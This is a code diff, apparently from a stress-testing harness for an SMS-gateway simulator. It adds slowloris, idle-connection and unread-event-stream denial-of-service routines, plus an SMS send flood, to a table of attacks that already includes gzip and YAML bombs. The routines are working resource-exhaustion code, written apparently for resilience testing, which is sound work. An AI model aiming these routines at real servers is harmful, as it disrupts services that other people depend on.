@@ -130,6 +130,78 @@ async def deep_json(s: aiohttp.ClientSession, url: str) -> str:
         return f"HTTP {r.status} result={r.headers.get('result')}"
 
 
+async def _open(url: str, n: int) -> list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
+    host, port = url.rsplit("//", 1)[1].split(":")
+    conns = []
+    for _ in range(n):
+        try:
+            conns.append(await asyncio.open_connection(host, int(port)))
+        except OSError:
+            break
+    return conns
+
+
+async def _still_open(conns: list, wait: float) -> int:
+    await asyncio.sleep(wait)
+    alive = 0
+    for r, w in conns:
+        try:
+            w.write(b"X")
+            await w.drain()
+            data = await asyncio.wait_for(r.read(1), 0.01)
+            alive += bool(data)
+        except TimeoutError:
+            alive += 1
+        except (OSError, ConnectionError):
+            pass
+    for _, w in conns:
+        w.close()
+    return alive
+
+
+async def slowloris(s: aiohttp.ClientSession, url: str, n: int = 500, wait: float = 12.0) -> str:
+    conns = await _open(url, n)
+    for _, w in conns:
+        w.write(b"GET /_sim/health HTTP/1.1\r\nHost: x\r\n")
+    for _ in range(int(wait / 0.5)):
+        await asyncio.sleep(0.5)
+        for _, w in conns:
+            if not w.is_closing():
+                w.write(b"X-A: b\r\n")
+    alive = await _still_open(conns, 0)
+    return f"{len(conns)} slow heads, {alive} still open after {wait:.0f} s"
+
+
+async def idle(s: aiohttp.ClientSession, url: str, n: int = 2000, wait: float = 3.0) -> str:
+    conns = await _open(url, n)
+    alive = await _still_open(conns, wait)
+    return f"{len(conns)} idle connections, {alive} still open after {wait:.0f} s"
+
+
+async def sse_nonreaders(s: aiohttp.ClientSession, url: str, n: int = 200, sends: int = 3000) -> str:
+    import hashlib
+
+    conns = await _open(url, n)
+    for _, w in conns:
+        w.write(b"GET /_sim/events HTTP/1.1\r\nHost: x\r\n\r\n")
+    await asyncio.sleep(0.5)
+    sem = asyncio.Semaphore(32)
+
+    async def one(i: int) -> None:
+        ts = str(int(time.time() * 1000))
+        sign = hashlib.md5(f"100001{ts}kxdemoapikey0001".encode()).hexdigest()
+        q = {"userid": "100001", "ts": ts, "sign": sign, "mobile": "13800000000", "msgcontent": "【测试】hi"}
+        async with sem, s.get(url + "/api/sms/send", params=q) as r:
+            await r.read()
+
+    t = time.perf_counter()
+    await asyncio.gather(*(one(i) for i in range(sends)))
+    rate = sends / (time.perf_counter() - t)
+    for _, w in conns:
+        w.close()
+    return f"{n} event streams never read: kx send {rate:,.0f} req/s"
+
+
 ATTACKS: dict[str, Callable[[aiohttp.ClientSession, str], Awaitable[str]]] = {
     "emay-gzip-1mb": emay_attack(1 << 20),
     "emay-gzip-2mb": emay_attack(2 << 20),
@@ -138,6 +210,9 @@ ATTACKS: dict[str, Callable[[aiohttp.ClientSession, str], Awaitable[str]]] = {
     "big-bodies": big_bodies,
     "gzip-bombs": gzip_bombs,
     "yaml-bomb": yaml_bomb,
+    "slowloris": slowloris,
+    "idle-keepalive": idle,
+    "sse-nonreaders": sse_nonreaders,
 }
 
 
